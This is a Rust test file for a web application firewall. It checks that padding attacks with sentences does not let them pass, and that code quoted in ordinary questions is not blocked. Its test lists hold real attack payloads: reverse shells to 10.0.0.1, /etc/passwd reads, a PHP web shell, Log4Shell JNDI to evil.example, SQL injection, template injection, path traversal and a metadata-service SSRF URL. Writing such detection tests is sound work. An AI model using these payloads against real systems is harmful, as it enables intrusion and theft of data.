//! Code that posts show stands between sentences; an attack that sentences pad does not pass.

use super::{Spot, put};
use crate::waf::{Settings, Verdict};

/// Attacks that stay stopped with a sentence beside them or on the lines around them.
const ANYWHERE: &[&str] = &[
    "; cat /etc/passwd",
    "127.0.0.1 && cat /etc/hosts",
    "$(cat /etc/passwd)",
    "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "; nc -e /bin/sh 10.0.0.1 4444",
    "<?php system($_GET['c']); ?>",
    "eval(base64_decode('cGhwaW5mbygpOw=='))",
    "{{7*7}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "${jndi:ldap://evil.example/a}",
    "*)(uid=*))(|(uid=*",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "__import__('os').system('id')",
];
/// Attacks that stay stopped with a sentence on the same line.
const BESIDE: &[&str] = &[
    "' or 1=1--",
    "1' or '1'='1",
    "' union select username, password from users--",
    "'; drop table users; --",
    "'; exec xp_cmdshell('dir'); --",
    "1' and sleep(5)#",
    "1' and extractvalue(1, concat(0x7e, version()))--",
    "\" or \"\"=\"",
    "') or ('a'='a",
    "' or count(//user)=1 or 'a'='b",
    "'; return true; var a='",
];

/// Attacks of other kinds, for [`paddings_stop_as_many_as_ever`].
const OTHERS: &[&str] = &[
    "1 or 1=1",
    "1; drop table users",
    "-1 union select 1,2,3",
    "1 and sleep(5)",
    "admin'--",
    "; ls -la",
    "| id",
    "`whoami`",
    "$(id)",
    "system('id');",
    "{\"$ne\": null}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "require('child_process').exec('id')",
];
/// Break-outs whose comment hides the sentence behind them, so that they run between sentences.
const HIDING: &[&str] = &[
    "' or 1=1--",
    "' union select username, password from users--",
    "'; drop table users; --",
    "'; exec xp_cmdshell('dir'); --",
    "' and sleep(5)#",
    "' and extractvalue(1, concat(0x7e, version()))--",
];

/// Commands that stay stopped behind a sentence, on its line and on the next.
const RESUMING: &[&str] = &["| id", "&& whoami", "; id"];

const PADS: &[&str] = &[
    "Hello there, this is the order that I would like to have.",
    "Terima kasih, saya mau pesan yang ini dong.",
];

fn is_stopped(text: &str) -> bool {
    let settings = Settings::default();
    [Spot::Json, Spot::Form, Spot::Multipart]
        .into_iter()
        .all(|spot| put(&settings, spot, text).verdict == Verdict::Blocked)
}

/// The texts made of one of the attacks by `pad` that pass.
fn passed(attacks: &[&str], pad: impl Fn(&str, &str) -> Vec<String>) -> Vec<String> {
    attacks
        .iter()
        .flat_map(|attack| PADS.iter().flat_map(|sentence| pad(attack, sentence)))
        .filter(|text| !is_stopped(text))
        .collect()
}

fn beside(attack: &str, sentence: &str) -> Vec<String> {
    vec![
        format!("{attack} {sentence}"),
        format!("{sentence} {attack}"),
    ]
}

fn around(attack: &str, sentence: &str) -> Vec<String> {
    vec![
        format!("{attack}\n{sentence}"),
        format!("{sentence}\n{attack}"),
        format!("{sentence}\r\n{attack}\r\n{sentence}"),
        format!("{sentence}\n\n{attack}\n\n{sentence}"),
    ]
}

#[test]
fn sentences_do_not_hide_an_attack() {
    assert_eq!(passed(ANYWHERE, around), [""; 0]);
    assert_eq!(passed(ANYWHERE, beside), [""; 0]);
    assert_eq!(passed(BESIDE, beside), [""; 0]);
}

#[test]
fn a_comment_hides_what_follows_and_not_the_attack() {
    let between = |attack: &str, sentence: &str| {
        vec![
            format!("{sentence} {attack} {sentence}"),
            format!("{sentence}\n\n{sentence}{attack} {sentence}"),
        ]
    };
    assert_eq!(passed(HIDING, between), [""; 0]);
}

#[test]
fn a_command_behind_a_finished_sentence_is_stopped() {
    let behind = |attack: &str, sentence: &str| {
        vec![
            format!("{sentence} {attack}"),
            format!("{sentence}\n{attack}"),
            format!("{sentence}\r\n{attack}\r\n{sentence}"),
        ]
    };
    assert_eq!(passed(RESUMING, behind), [""; 0]);
}

/// How many of 480 texts are stopped, quotations in backticks, fences and indented blocks among them: those that are
/// spared on purpose, and a floor that no change may go below.
#[test]
fn paddings_stop_as_many_as_ever() {
    const FLOOR: usize = 240;
    let settings = Settings::default();
    let [first, last] = [PADS[0], PADS[1]];
    let long = ["I have been a customer of this shop for many years and I like it."; 4].join(" ");
    let padded = |attack: &&str| {
        [
            format!("{first} {attack}"),
            format!("{attack} {first}"),
            format!("{first}\n{attack}"),
            format!("{attack}\n{first}"),
            format!("{first}\r\n{attack}\r\n{last}"),
            format!("{last}\n\n{attack}\n\n{last}"),
            format!("{long}\n\n{attack}"),
            format!("{long} {attack} {last}"),
            format!("{first}\n\n```\n{attack}\n```\n{last} {long}"),
            format!("{long} `{attack}` {last}"),
            format!("{first}\n\n    {attack}\n\n{last} {long}"),
            format!("why does this not work?\n{attack}\nhow can I do it, what is the way?"),
        ]
    };
    let attacks = ANYWHERE.iter().chain(BESIDE).chain(OTHERS);
    let texts: Vec<String> = attacks.flat_map(padded).collect();
    let is_stopped = |text: &&String| put(&settings, Spot::Form, text).verdict == Verdict::Blocked;
    let stopped = texts.iter().filter(is_stopped).count();
    assert_eq!(texts.len(), 480);
    assert!(stopped >= FLOOR, "{stopped}");
}

#[test]
fn lines_of_code_between_sentences_are_shown() {
    let settings = Settings::default();
    for code in [
        "const { exec } = require('child_process');\nexec('git rev-parse HEAD', done);",
        "find . -name '*.log' -mtime +7 -exec rm {} \\;",
        "sed -e '/^#/d' in.conf > out.conf && mv out.conf in.conf",
        "if exists (select 1 from sys.tables where name = 'Log') drop table Log;",
        "db.users.find({ $or: [{ age: { $gte: 18 } }] }).limit(5)",
        "local t = {}\nos.execute(\"sleep 1\")",
    ] {
        for text in [
            format!("{code}\n\nWhy does this not work on my laptop?"),
            format!("Kenapa ini tidak bisa ya?\r\n{code}"),
        ] {
            for spot in [Spot::Json, Spot::Form, Spot::Multipart] {
                let report = put(&settings, spot, &text);
                assert_ne!(report.verdict, Verdict::Blocked, "{text}: {report:?}");
            }
        }
    }
}

#[test]
fn questions_about_software_show_code_within_their_sentences() {
    let settings = Settings::default();
    for text in [
        "Please don't use os.system(\"tar czf x.tgz y\") in Python, subprocess.run is better.",
        "SQLite: \"SELECT name FROM sqlite_master WHERE type='table'\" gives me tables. How do I get the columns?",
        "Why does (&(objectClass=user)(!(cn=x))) not work in our LDAP browser?",
        "Twig: {{ dump(app.user) }} shows null in my error page. Is the firewall not active there?",
        "<object data=\"file.pdf\"></object>\nnot shown on iOS",
        "<div onclick=\"location.href='/product/12'\"> is what I have in my HTML, is that ok?",
        "SQL> select * from v$version where rownum = 1;\nSQL> alter user hr account unlock;",
        "The scanner reports a path traversal, GET /download?file=../../../../etc/passwd, but the app \
         answers with an error page. Could you return 404 there so that the audit is happy?",
        "What does this payload do? Our scanner flagged it in a comment: <svg/onload=alert(1)>",
        "Why is sleep(5) blocking only my session? SELECT SLEEP(5); in two tabs of phpMyAdmin.",
        "should I be worried?\n1.2.3.4 - - [12/Oct/2024:04:11:25 +0000] \"POST /vendor/phpunit/phpunit/src/\
         Util/PHP/eval-stdin.php HTTP/1.1\" 404 153 \"-\" \"-\"",
        "Process p = Runtime.getRuntime().exec(cmd);\nint code = p.waitFor();\nHello all,",
        "unserialize('O:4:\"User\":1:{s:4:\"name\";s:4:\"Budi\";}') gives nothing",
        "process.mainModule is deprecated, what do I write instead of process.mainModule.filename?",
        "__import__('datetime').datetime.now() in an f-string works. Cursed?",
        "curl -sSL https://install.python-poetry.org | python3 -\nSSL: CERTIFICATE_VERIFY_FAILED",
        "shell_exec('libreoffice --headless ' . escapeshellarg($f)); outputs nothing under www-data",
        "what happens with /files/../../etc/hosts?",
        "'reading 'map')'\n\nMy query fails: db.orders.find({ age: { $gt: 18 } }) returns nothing",
    ] {
        for spot in [Spot::Json, Spot::Form, Spot::Multipart] {
            let report = put(&settings, spot, text);
            assert_ne!(report.verdict, Verdict::Blocked, "{text}: {report:?}");
        }
    }
}

#[test]
fn what_asks_for_code_in_a_search_box_is_no_code() {
    let settings = Settings::default();
    for text in [
        "delete from table where id in (select ...)",
        "select 1 from dual where exists",
        "{{7*7}} meaning",
    ] {
        let report = put(&settings, Spot::Query, text);
        assert_ne!(report.verdict, Verdict::Blocked, "{text}: {report:?}");
    }
    for text in [
        "delete from orders where 1=1",
        "{{7*7}}",
        "' union select 1 from dual where exists",
    ] {
        let report = put(&settings, Spot::Query, text);
        assert_eq!(report.verdict, Verdict::Blocked, "{text}: {report:?}");
    }
}

#[test]
fn what_people_write_comes_back_in_paths_cookies_and_headers() {
    let settings = Settings::default();
    let path = |path: &str| super::look(&settings, path, "", &[], None).verdict;
    let verdict = |spot, text: &str| match spot {
        Spot::Path => path(&format!("/items/{}", super::percent(text))),
        Spot::Cookie => put(&settings, spot, &super::percent(text)).verdict,
        spot => put(&settings, spot, text).verdict,
    };
    for spot in [Spot::Path, Spot::Header, Spot::Cookie, Spot::Query] {
        for text in [
            "kill -9 $(lsof -t -i:3000) if the port is in use",
            "mongo: db.users.find({ age: { $gt: 17 } }).sort({ name: 1 })",
            "In T-SQL: EXEC sp_helpdb shows all databases of the server",
        ] {
            assert_ne!(verdict(spot, text), Verdict::Blocked, "{spot:?}: {text}");
        }
        for text in [
            "; cat /etc/passwd",
            "<script>alert(1)</script> is my name",
            "' union select username, password from users--",
        ] {
            assert_eq!(verdict(spot, text), Verdict::Blocked, "{spot:?}: {text}");
        }
    }
    // Several lines are a text, which none of these hold.
    let lines = "a\r\nSET foo bar\r\nQUIT\r\n";
    assert_eq!(verdict(Spot::Cookie, lines), Verdict::Blocked);
    // A path of words names no file.
    assert_ne!(
        path("/search/tail%20laravel/laravel.log%20in%20real%20time"),
        Verdict::Blocked
    );
    assert_eq!(path("/storage/logs/laravel.log%20"), Verdict::Blocked);
}

#[test]
fn sentences_in_paths_are_told_from_attacks() {
    let settings = Settings::default();
    let verdict = |text: &str| put(&settings, Spot::Path, &super::percent(text)).verdict;
    for text in [
        "Kenapa select * from users lambat sekali di server saya",
        "tell me what cat /etc/hosts prints on my machine",
    ] {
        assert_ne!(verdict(text), Verdict::Blocked, "{text}");
    }
    for text in [
        "select * from users",
        "1 union select password from users",
        "; cat /etc/hosts",
    ] {
        assert_eq!(verdict(text), Verdict::Blocked, "{text}");
    }
}

/// A shell that takes backticks for its own knows no commands of Windows.
#[test]
fn fences_of_windows_alone_show_commands() {
    const COMMAND: &str = "net user budi /active:yes & type C:\\Logs\\a.txt";
    for language in ["bat", "powershell", "cmd"] {
        assert!(
            !is_stopped(&format!("```{language}\n{COMMAND}\n```")),
            "{language}"
        );
        assert!(
            is_stopped(&format!("```{language}\n{COMMAND} & whoami\n```")),
            "{language}"
        );
    }
    for text in [
        COMMAND.to_owned(),
        format!("```bash\n{COMMAND}\n```"),
        format!("```\n{COMMAND}\n```"),
    ] {
        assert!(is_stopped(&text), "{text}");
    }
}

#[test]
fn what_is_said_of_an_attack_does_not_let_it_run() {
    for text in [
        "1 for update union select table_name from information_schema.tables",
        "' or 1=1 -- is what I have",
        "<script>alert(1)</script> is my name",
        "<%\n  if (x) {\n    Runtime.getRuntime().exec(request.getParameter(\"c\"));\n  }\n%>",
    ] {
        assert!(is_stopped(text), "{text}");
    }
}

#[test]
fn questions_about_software_do_not_hide_what_breaks_out() {
    let question = "Why does this query return an error in my PHP script?";
    let stopped = |attack: &str| {
        [
            format!("{question} {attack}"),
            format!("{question}{attack}"),
            format!("{question}\n{attack}"),
            format!("{attack} {question}"),
        ]
        .iter()
        .all(|text| is_stopped(text))
    };
    for attack in [
        "' or 1=1--",
        "' union select username, password from users--",
        "'; drop table users; --",
        "; cat /etc/passwd",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "../../../../etc/passwd",
    ] {
        assert!(stopped(attack), "{attack}");
    }
}

#[test]
fn calls_that_start_what_developers_run_every_day_are_no_attack() {
    let settings = Settings::default();
    for (text, is_attack) in [
        (
            "subprocess.run([\"git\", \"pull\"], check=True, cwd=\"/srv/app\")",
            false,
        ),
        ("subprocess.run(['npm', 'ci'], check=True)", false),
        ("subprocess.run([\"cat\", \"/etc/passwd\"])", true),
        ("subprocess.run([\"git\", \"pull\"]);os.system('id')", true),
        (
            "subprocess.run(['ffmpeg', '-i', src, dst], check=True)",
            false,
        ),
        ("subprocess.run(['sh', '-c', line])", true),
        ("subprocess.run(['python', '-c', code])", true),
        (
            "eval \"$(ssh-agent -s)\" && ssh-add ~/.ssh/id_ed25519",
            false,
        ),
        ("eval \"$(ssh-agent -s)\"; cat /etc/passwd", true),
        (
            "<?php\nfunction luas($p, $l) { return $p * $l; }\necho luas(3, 4);",
            false,
        ),
        ("<?php\n$a = $_GET['a'];\n$a('id');", true),
        ("<?php echo 1;", true),
        ("<?php\n$f = 'sys' . 'tem'; echo 1;\n($f)('id');", true),
        ("which python3; python3 --version", false),
        ("which python3; python3 --version; id", true),
        (
            "process.on('uncaughtException', err => { console.error(err); process.exit(1); });",
            false,
        ),
        ("'; process.exit(1); //", true),
        (
            "import os; base = os.path.dirname(os.path.abspath(__file__))",
            false,
        ),
        ("import os; print(os.environ)", true),
        ("import os; print(os.popen('id').read()); os.path", true),
        (
            "db.users.updateOne({ email: \"a@example.com\" }, { $set: { verified: true } })",
            false,
        ),
        ("db.users.updateOne({}, { $set: { verified: true } })", true),
    ] {
        let report = put(&settings, Spot::Form, text);
        assert_eq!(
            report.verdict == Verdict::Blocked,
            is_attack,
            "{text}: {report:?}"
        );
    }
}

#[test]
fn code_in_the_document_of_an_editor_is_kept_and_markup_judged() {
    let settings = Settings::default();
    let keeps = |body: &str| {
        let body = ("application/json", body.as_bytes());
        super::look(&settings, "/api/pages", "", &[], Some(body)).verdict
    };
    let document =
        |text: &str| format!(r#"{{"doc":{{"content":[{{"content":[{{"text":"{text}"}}]}}]}}}}"#);
    for text in [
        "sudo apt update && cat /etc/os-release",
        "SELECT name FROM users WHERE a = 1 OR 1=1",
    ] {
        assert_ne!(keeps(&document(text)), Verdict::Blocked, "{text}");
        assert_eq!(
            keeps(&format!(r#"{{"text":"{text}"}}"#)),
            Verdict::Blocked,
            "{text}"
        );
    }
    assert_eq!(
        keeps(&document("<img src=x onerror=alert(1)>")),
        Verdict::Blocked
    );
}

#[test]
fn a_drop_leaf_table_is_furniture() {
    let settings = Settings::default();
    for (text, is_attack) in [
        ("drop table lamp", false),
        ("drop table users", true),
        ("1; drop table lamp", true),
        ("'; drop table lamp; --", true),
    ] {
        let report = put(&settings, Spot::Query, text);
        assert_eq!(
            report.verdict == Verdict::Blocked,
            is_attack,
            "{text}: {report:?}"
        );
    }
}

#[test]
fn what_xml_names_of_its_senders_own_is_no_attack() {
    let settings = Settings::default();
    let verdict = |body: &str| {
        let body = ("text/xml", body.as_bytes());
        super::look(&settings, "/ws", "", &[], Some(body)).verdict
    };
    for (element, value, is_attack) in [
        (
            "queryString",
            "SELECT Id, Name, (SELECT LastName, Email FROM Contacts WHERE Email != null) FROM Account",
            false,
        ),
        ("queryString", "SELECT Id FROM Account' OR 1=1--", true),
        (
            "text",
            "SELECT Id, Name, (SELECT LastName, Email FROM Contacts WHERE Email != null) FROM Account",
            true,
        ),
        ("relativePath", "../../parent/pom.xml", false),
        ("relativePath", "../../../../../../etc/passwd", true),
        ("wsa:Address", "http://10.20.30.41:8080/service", false),
        (
            "wsa:Address",
            "http://169.254.169.254/latest/meta-data",
            true,
        ),
    ] {
        let body = format!("<a xmlns:wsa=\"urn:x\"><{element}>{value}</{element}></a>");
        assert_eq!(
            verdict(&body) == Verdict::Blocked,
            is_attack,
            "{element} {value}"
        );
    }
}

#[test]
fn words_of_other_scripts_stand_around_a_quotation() {
    let settings = Settings::default();
    let text = "このエラーが出ます。どうすれば直りますか、教えてください。\n```\nnpm ERR! `rm -rf dist && cp -r public/* dist/`\n```\nWindowsでは使えないのでしょうか。";
    assert_ne!(put(&settings, Spot::Form, text).verdict, Verdict::Blocked);
    let attack = "'; cat /etc/passwd # このエラー";
    assert_eq!(put(&settings, Spot::Form, attack).verdict, Verdict::Blocked);
}
